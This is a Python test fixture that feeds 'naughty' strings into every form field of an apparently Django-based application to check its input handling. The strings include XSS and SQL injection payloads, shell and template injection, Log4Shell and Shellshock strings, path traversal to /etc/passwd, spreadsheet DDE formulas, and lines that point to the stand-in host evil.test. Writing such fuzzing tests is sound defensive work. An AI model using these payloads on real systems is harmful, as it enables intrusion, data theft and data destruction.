"""Texts that have broken other programs, by what they try; each is to be typed into every field.

Markup names elements or attributes with zq, which no page of ours has. What is to be reckoned by a
template or a formula makes RECKONED. Lone surrogates stand for their bytes in UTF-8.
"""

import os
from collections.abc import Iterator, Sequence

from tests.extent import WHOLE

RECKONED = str(7191 * 7191)
BY_CLASS: dict[str, tuple[str, ...]] = {
    "nothing to see": (
        "",
        " ",
        "\t",
        "\u00a0",
        "\u3000",
        "\u200b",
        "\ufeff",
        "\u2060\u180e",
        "\u115f\u3164",
    ),
    "control": (
        "a\x00b",
        "\x00",
        "a\x08b",
        "\x1b[31mred\x1b[0m",
        "a\x7fb",
        "a\x85b",
        "\x1a",
        "\x0b\x0c",
    ),
    "line ends": ("a\nb", "a\r\nb", "a\rb", "a\u2028b", "a\u2029b", "\n\n\n"),
    "direction": (
        "a\u202eb",
        "\u202aa\u202c",
        "\u2066a",
        "\u2069",
        "\u200fא",
        "\u061cب",
        "שלום עולם",
        "مرحبا",
    ),
    "surrogates": ("\ud800", "\udfff", "a\ud83d", "\ude00\ud83d"),
    "no characters": ("\uffff", "\ufdd0", "\U0010ffff", "\ufffd", "\ue000", "\U000e0041"),
    "overlong": ("À\u00ae", "%c0%ae%c0%ae/", "%00", "%ff", "%u0041", "%25%30%30", "+", "%"),
    "normal forms": (
        "e\u0301",
        "é",
        "ﬀ",
        "Å",
        "\u0958",
        "ﷺ",
        "ＡＢ",
        "İstanbul",
        "ß",
        "ı",
        "\u0345\u0313",
    ),
    "joined": ("👩‍👩‍👧", "🏳️‍🌈", "🇨🇦", "👋🏽", "1️⃣", "می‌خواهم", "क्ष", "각", "ป่า"),
    "piled up": ("o" + "\u0323" * 60, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "\u0301" * 20),
    "digits": ("١٢٣", "１２３", "²", "Ⅷ", "½", "𝟘𝟙", "٠٫٥"),
    "markup": (
        *("<zq-typed>", "\"'><zq-typed zq=1>", "</textarea><zq-typed>", "</title><zq-typed>"),
        *(
            "<script zq>alert(1)</script>",
            "<svg zq onload=alert(1)>",
            "<img zq src=x onerror=alert(1)>",
        ),
        *(
            "<!--<zq-typed>",
            "]]><zq-typed>",
            "<iframe zq srcdoc='<zq-typed>'>",
            "<math zq><mi//xlink:href>",
        ),
        *(
            '" zq="',
            "' zq='",
            "` zq=`",
            "/zq=1 ",
            "<style zq>*{}</style>",
            "<base zq href=//evil.test>",
        ),
        *("&lt;zq-typed&gt;", "&#60;zq-typed&#62;", "\\u003czq-typed\\u003e", "\\x3czq-typed\\x3e"),
        *(
            "＜zq-typed＞",
            "<\x00zq-typed>",
            "<zq-typed",
            "<a zq href=javascript:alert(1)>",
            "<?zq ?>",
        ),
    ),
    "addresses": (
        "javascript:alert(1)",
        "JaVa\tScRiPt:alert(1)",
        "data:text/html,<zq-typed>",
        "//evil.test",
    ),
    "templates": (
        *(
            "{{ 7191*7191 }}",
            "{% now 'Y' %}",
            "{{ settings.SECRET_KEY }}",
            "{# zq #}",
            "{% include 'x' %}",
        ),
        *(
            "${7191*7191}",
            "#{7191*7191}",
            "<%= 7191*7191 %>",
            "{phone}",
            "{{",
            "}}",
            "{%",
            "{clinic.phone}",
        ),
    ),
    "formats": (
        "%s%s%n",
        "%(name)s",
        "%d",
        "{0}",
        "{}",
        "{0.__class__}",
        "%1000000000s",
        "$name",
        "\\1\\g<0>",
    ),
    "SQL": (
        *(
            "'",
            '"',
            "' OR '1'='1",
            "'; DROP TABLE enquiries_enquiry; --",
            '" OR ""="',
            "1; SELECT pg_sleep(9)",
        ),
        *(
            "') UNION SELECT NULL--",
            "admin'/*",
            "\\'",
            "%' AND 1=1 --",
            "_%",
            "E'\\x00'",
            "$$;$$",
            "?",
            ":1",
            "%%",
        ),
    ),
    "paths": (
        "../../../etc/passwd",
        "..\\..\\windows",
        "/etc/passwd",
        "file:///etc/passwd",
        "~root",
        "./",
    ),
    "headers": (
        "a\r\nSet-Cookie: zq=1",
        "a%0d%0aSet-Cookie:%20zq=1",
        "a\nBcc: x@evil.test",
        "a\u560d\u560aX: zq",
    ),
    "formulas": (
        *(
            "=7191*7191",
            "+7191*7191",
            "-7191*7191",
            "@SUM(1)",
            "\t=1+1",
            "＝1+1",
            '=HYPERLINK("//evil.test")',
        ),
        *("=cmd|'/C calc'!A1", 'DDE("cmd";"/C calc")', ";=1+1", '"=1+1"'),
    ),
    "numbers": (
        *(
            "-1",
            "0",
            "1e400",
            "NaN",
            "Infinity",
            "-0",
            "0x7f",
            "1_000",
            "9" * 20,
            "9" * 300,
            "2147483648",
        ),
        *("9223372036854775808", "-9223372036854775809", "1,5", "1.5", "00", "0b1", "1e3"),
    ),
    "days": (
        "0000-00-00",
        "9999-12-31",
        "0001-01-01",
        "2026-02-30",
        "10000-01-01",
        "1970-01-01",
        "31/12/26",
    ),
    "words of languages": (
        "null",
        "None",
        "undefined",
        "true",
        "NULL",
        "__proto__",
        "[object Object]",
        "__all__",
    ),
    "names of files": (
        "CON",
        "NUL",
        "aux.txt",
        "COM1",
        ".",
        "..",
        "a:b",
        "a|b",
        "Zone.Identifier::$DATA",
    ),
    "data": (
        '{"$gt": ""}',
        "[[[[[[",
        '{"a":' * 50,
        "!!python/object:os.system",
        "- a\n- &x [*x]",
        "<?xml?>",
    ),
    "directories": ("*)(uid=*))(|(uid=*", "*", "\\2a", "admin)(&)", "(|(a=b))"),
    "shell": (
        "$(touch zq)",
        "`touch zq`",
        "; touch zq #",
        "| cat",
        "&& true",
        "() { :;}; echo",
        "${jndi:ldap://x}",
    ),
    "slow patterns": (
        "a" * 60 + "!",
        "(" * 100,
        "@" * 100,
        " " * 120 + "x",
        "-" * 150,
        "1" * 100 + "x",
        "a@" * 40,
    ),
    "addresses of mail": (
        "a@b",
        "a@[127.0.0.1]",
        '"a b"@example.org',
        "a@xn--.example",
        "a@\u202eexample.org",
    ),
    "lengths": (
        *("a" * 40, "a" * 41, "a" * 60, "👩" * 61, "a" * 100, "👩" * 101, "a" * 200, "👩" * 201),
        *("a" * 499, "é" * 500, "a" * 501, "ﷺ" * 300, "a\n" * 250, "a" * 4001),
    ),
}
NAUGHTY = tuple(text for texts in BY_CLASS.values() for text in texts)


# Else, so that the tests are soon over, a form sees each text in one field or in none; which part
# of them it sees is another one for the next form.
THOROUGH = bool(os.environ.get("IMSINFO_THOROUGH"))
# Each place sees one part of the texts.
PARTS = 4 if WHOLE else 12


def rows(
    fields: Sequence[str], part: int = 0, *, thorough: bool = THOROUGH
) -> Iterator[dict[str, str]]:
    """Yield answers; thorough: until every text has stood in every field.

    The texts of one row come from different classes, as a rule.
    """
    many, apart = len(NAUGHTY), -(-len(NAUGHTY) // len(fields))
    for first in range(many) if thorough else range(part % PARTS, apart, PARTS):
        yield {name: NAUGHTY[(first + apart * n) % many] for n, name in enumerate(fields)}


def texts(part: int = 0) -> list[str]:
    """Return the texts for one place that takes no more than one."""
    return [row["any"] for row in rows(["any"], part)]
